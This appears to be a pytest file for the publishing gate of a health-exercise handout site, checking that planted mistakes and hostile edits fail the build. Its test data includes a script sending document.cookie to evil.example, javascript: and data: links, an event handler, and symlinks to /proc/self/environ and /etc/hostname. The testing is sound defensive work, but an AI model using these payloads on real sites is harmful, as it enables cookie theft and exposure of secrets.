"""The publishing gate: nothing private, executable or silently broken reaches the site.

Each case plants one mistake (or hostile edit) in a copy of the project, then checks the build's
exact words, their file and line, the exit code, and that a failed build leaves site/ exactly as
it was (or, for what is taken out, that it is absent from the new site/).
"""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import pytest

from conftest import copy_project, edit, line_of, run_build, tree_digest

MARK = "## What it does"  # a heading of docs/anatomy.md: things are planted just above it
ANATOMY = "docs/anatomy.md"


@pytest.fixture
def project(tmp_path, built_site):
    """A copy of the project with a good site/ already built in it."""
    project = copy_project(tmp_path / "project")
    shutil.copytree(built_site, project / "site")
    return project


def plant(project: Path, text: str, page: str = ANATOMY, before: str = MARK) -> int:
    """Put `text` on its own just above `before` in a page; the line it starts on."""
    edit(project / page, before, f"{text}\n\n{before}")
    return line_of(project / page, text.split("\n")[0])


def problems_of(result) -> list[str]:
    """The build's problem lines and the count after them."""
    lines = result.stdout.splitlines()
    count = next(i for i, line in enumerate(lines) if line.endswith(("warning", "warnings")))
    return lines[:count + 1]


def assert_failed_and_site_kept(project: Path, result, before: dict) -> None:
    assert result.returncode == 1
    assert result.stdout.splitlines()[-1] == "Build failed: site/ was left as it was."
    assert tree_digest(project / "site") == before


# Errors: the build fails and site/ is left byte for byte -------------------------------------

PAGE_ERRORS = {
    "script": ("<script>fetch('https://evil.example/?c=' + document.cookie)</script>",
               "<script> is not allowed in a page: it can run code or show another website; "
               "remove it (to show a video, use the :video: shortcode)"),
    "iframe": ('<iframe src="https://evil.example/"></iframe>',
               "<iframe> is not allowed in a page: it can run code or show another website; "
               "remove it (to show a video, use the :video: shortcode)"),
    "form": ('<form action="https://evil.example/"><input name="nhs"></form>',
             "<form> is not allowed in a page: it can run code or show another website; remove "
             "it (to show a video, use the :video: shortcode)"),
    "event handler": ('<p onmouseover="steal()">Move here</p>',
                      "the event handler onmouseover=\"steal()\" runs code in the visitor's "
                      "browser (remove it)"),
    "javascript link": ("[Tap here](javascript:alert(document.cookie))",
                        "link 'javascript:alert(document.cookie)': 'javascript:' addresses are not "
                        "allowed in a page (they can run code or hide what they show): link to a "
                        "page, a file or a website"),
    "data link": ("[Open](data:text/html;base64,PHNjcmlwdD4=)",
                  "link 'data:text/html;base64,PHNjcmlwdD4=': 'data:' addresses are not allowed "
                  "in a page (they can run code or hide what they show): link to a page, a file "
                  "or a website"),
    "vbscript in raw HTML": ('<a href="vbscript:msgbox(1)">Open</a>',
                             "link 'vbscript:msgbox(1)': 'vbscript:' addresses are not allowed in "
                             "a page (they can run code or hide what they show): link to a page, "
                             "a file or a website"),
    # Silent losses: a box without its colour, a link printed as brackets.
    "misspelt box type": ('!!! dnager "Careful"\n\n    Stop if it hurts.',
                          "box type 'dnager' is not one the site knows, so it would show without "
                          "its colour and icon (did you mean 'danger'?)"),
    "reference link without its address": (
        "Then try [the exercise][ex] on a step.",
        "link [the exercise][ex] has no address: add a line '[ex]: https://...' (or the page's "
        "file name) below the paragraph, or write the link as [the exercise](address)"),
}


@pytest.mark.parametrize("case", PAGE_ERRORS)
def test_code_or_a_silent_loss_in_a_page_is_an_error_at_its_line(project, case):
    text, message = PAGE_ERRORS[case]
    before = tree_digest(project / "site")
    line = plant(project, text)
    result = run_build(project)
    assert problems_of(result) == [f"{ANATOMY}:{line}: {message}", "1 error, 0 warnings"]
    assert_failed_and_site_kept(project, result, before)


def test_a_file_of_another_kind_in_docs_is_not_published(project):
    before = tree_digest(project / "site")
    (project / "docs" / "patient-list.csv").write_text("name,NHS number\nA Patient,943 476 5919\n")
    (project / "docs" / "exercise-sheet.docx").write_bytes(b"PK\x03\x04 a Word file")
    result = run_build(project)
    assert problems_of(result) == [
        "docs/exercise-sheet.docx: files of this kind (.docx) are not published: move it out of "
        "docs/ (docs/ holds only pages, pictures, video, captions, stylesheets, scripts, fonts "
        "and PDFs)",
        "docs/patient-list.csv: files of this kind (.csv) are not published: move it out of docs/ "
        "(docs/ holds only pages, pictures, video, captions, stylesheets, scripts, fonts and PDFs)",
        "2 errors, 0 warnings"]
    assert_failed_and_site_kept(project, result, before)


def test_links_to_files_outside_docs_are_never_followed(project):
    before = tree_digest(project / "site")
    os.symlink("/etc/hostname", project / "docs" / "hostname.md")
    os.symlink("/proc/self/environ", project / "docs" / "environ.js")  # the build's secrets
    result = run_build(project)
    assert problems_of(result) == [
        "docs/environ.js: is a link to another file (/proc/self/environ), which is never "
        "published: put the file itself in docs/, or delete the link",
        "docs/hostname.md: is a link to another file (/etc/hostname), which is never published: "
        "put the file itself in docs/, or delete the link",
        "2 errors, 0 warnings"]
    assert_failed_and_site_kept(project, result, before)


def test_a_link_to_a_folder_stops_the_build_before_it_is_looked_through(project):
    before = tree_digest(project / "site")
    os.symlink("/proc/self", project / "docs" / "process")  # through it: the whole machine
    result = run_build(project)
    assert problems_of(result) == [
        "docs/process: is a link to another folder (/proc/self), which is never published: put "
        "the folder itself in docs/, or delete the link",
        "1 error, 0 warnings"]
    assert_failed_and_site_kept(project, result, before)


def test_a_page_not_saved_as_utf8_names_its_first_bad_byte(project):
    before = tree_digest(project / "site")
    page = project / "docs" / "running.md"
    page.write_bytes(page.read_bytes().replace(b"The soleus is an important", b"The soleus\x92s is an important", 1))
    lines = page.read_bytes().split(b"\n")
    line = next(n for n, text in enumerate(lines, 1) if b"\x92" in text)
    column = lines[line - 1].index(b"\x92") + 1
    result = run_build(project)
    assert problems_of(result) == [
        f"docs/running.md:{line}: column {column}: this file is not saved as UTF-8 (byte 0x92 is "
        f"not UTF-8 text): save it as UTF-8 in your editor (\"Save with encoding\", then UTF-8)",
        "1 error, 0 warnings"]
    assert "Traceback" not in result.stdout + result.stderr
    assert_failed_and_site_kept(project, result, before)


def test_a_code_block_never_closed_and_the_shortcode_it_swallows(project):
    before = tree_digest(project / "site")
    fence = plant(project, "```", "docs/exercise.md", ":video: media/heel-raise.mp4")
    video = line_of(project / "docs" / "exercise.md", ":video: media/heel-raise.mp4")
    help_heading = line_of(project / "docs" / "exercise.md", "## When to get help")
    safety = line_of(project / "docs" / "exercise.md", ":safety: get-help")
    result = run_build(project)
    # The safety text after it is swallowed too, so the handout misses its urgent signs
    assert problems_of(result) == [
        f"docs/exercise.md:{fence}: this code block (```) is never closed, so what follows it is "
        f"not read as the page: add a ``` line where the code ends, or delete this line",
        f"docs/exercise.md:{video}: shortcode ':video:' was not used: it is inside the code block "
        f"opened at line {fence}, which is never closed",
        f'docs/exercise.md:{help_heading}: the handout needs a section headed "When to get help" '
        f"with the urgent signs: add the line :safety: get-help under it",
        f"docs/exercise.md:{safety}: shortcode ':safety:' was not used: it is inside the code block "
        f"opened at line {fence}, which is never closed",
        "4 errors, 0 warnings"]
    assert_failed_and_site_kept(project, result, before)


def test_an_indented_shortcode_is_an_error_not_text(project):
    before = tree_digest(project / "site")
    edit(project / "docs" / "exercise.md", ":video: media", "    :video: media")
    line = line_of(project / "docs" / "exercise.md", "    :video: media")
    result = run_build(project)
    assert problems_of(result) == [
        f"docs/exercise.md:{line}: shortcode ':video:' was not used: a shortcode must start at the "
        f"beginning of its line, with no spaces before it", "1 error, 0 warnings"]
    assert_failed_and_site_kept(project, result, before)


def test_a_picture_too_heavy_for_a_phone_is_an_error(project):
    before = tree_digest(project / "site")
    picture = project / "docs" / "images" / "calf-photo.jpg"
    picture.write_bytes((project / "docs" / "media" / "heel-raise.jpg").read_bytes() + bytes(20_000_000))
    line = plant(project, "![A runner's calf, from behind](images/calf-photo.jpg)")
    result = run_build(project)
    assert problems_of(result) == [
        f"{ANATOMY}:{line}: picture 'images/calf-photo.jpg' is 20.0 MB, too large to publish on a "
        f"phone: make it smaller than 500 KB (for example, save it at most 1600 pixels wide, as "
        f"a JPEG for photos)", "1 error, 0 warnings"]
    assert_failed_and_site_kept(project, result, before)


# Warnings: published, and said -------------------------------------------------------------------

def test_a_comment_is_taken_out_of_the_page_with_a_warning(project):
    note = "<!-- Sam: Mrs A (NHS 943 476 5919) asked about this; ring her back -->"
    line = plant(project, note)
    inline = plant(project, "Calf muscles <!-- draft: check with Jo --> work hard.")
    result = run_build(project)
    warning = ("warning: a comment (<!-- ... -->) was left out of the published page: keep notes "
               "for staff outside the page's file")
    assert problems_of(result) == [f"{ANATOMY}:{line}: {warning}", f"{ANATOMY}:{inline}: {warning}",
                                   "0 errors, 2 warnings"]
    assert result.returncode == 0
    published = "".join(path.read_text(encoding="utf-8", errors="replace")
                        for path in (project / "site").rglob("*") if path.suffix in (".html", ".json"))
    assert "Calf muscles  work hard." in published
    for secret in ("943 476 5919", "ring her back", "draft: check with Jo"):
        assert secret not in published


def test_small_slips_are_warnings(project):
    http = plant(project, "See [an old page](http://example.org/calves).")
    heavy = project / "docs" / "images" / "calf-photo.jpg"
    heavy.write_bytes((project / "docs" / "media" / "heel-raise.jpg").read_bytes() + bytes(600_000))
    picture = plant(project, "![A runner's calf, from behind](images/calf-photo.jpg)")
    named = plant(project, "![heel-raise-top](images/heel-raise-top.svg)")
    edit(project / "docs" / "running.md", "title: ", "title: The soleus muscle\nold_title: ")
    title = line_of(project / "docs" / "running.md", "title: The soleus muscle")
    result = run_build(project)
    assert problems_of(result) == [
        f"{ANATOMY}:{http}: warning: link 'http://example.org/calves' is not secure (http://): use "
        f"https:// if the site offers it",
        f"{ANATOMY}:{picture}: warning: picture 'images/calf-photo.jpg' is "
        f"{heavy.stat().st_size // 1000} KB, slow to load "
        f"on a phone: make it smaller than 500 KB (for example, save it at most 1600 pixels wide, "
        f"as a JPEG for photos)",
        f"{ANATOMY}:{named}: warning: picture 'images/heel-raise-top.svg' has its file name as alt "
        f"text: describe what the picture shows inside the square brackets, for someone who "
        f"cannot see it",
        f"docs/running.md:{title}: warning: title 'The soleus muscle' is also the title of "
        f"docs/anatomy.md: give each page its own title",
        "0 errors, 4 warnings"]
    assert result.returncode == 0


# What the theme prints is escaped ------------------------------------------------------------------

def test_titles_and_descriptions_are_shown_intact_and_never_run(project):
    edit(project / "docs" / "running.md", "description: ",
         "description: 'Why \"push-off\" <matters> & more'\nold_description: ")
    edit(project / "docs" / "running.md", "title: ",
         "title: 'Runners \"&\" <script>alert(1)</script> calves'\nold_title: ")
    result = run_build(project)
    assert result.returncode == 0, result.stdout
    page = (project / "site" / "running" / "index.html").read_text(encoding="utf-8")
    assert ('<meta name="description" content="Why &#34;push-off&#34; &lt;matters&gt; &amp; more">'
            in page)
    assert "<title>Runners &#34;&amp;&#34; &lt;script&gt;alert(1)&lt;/script&gt; calves" in page
    assert "<script>alert(1)" not in page

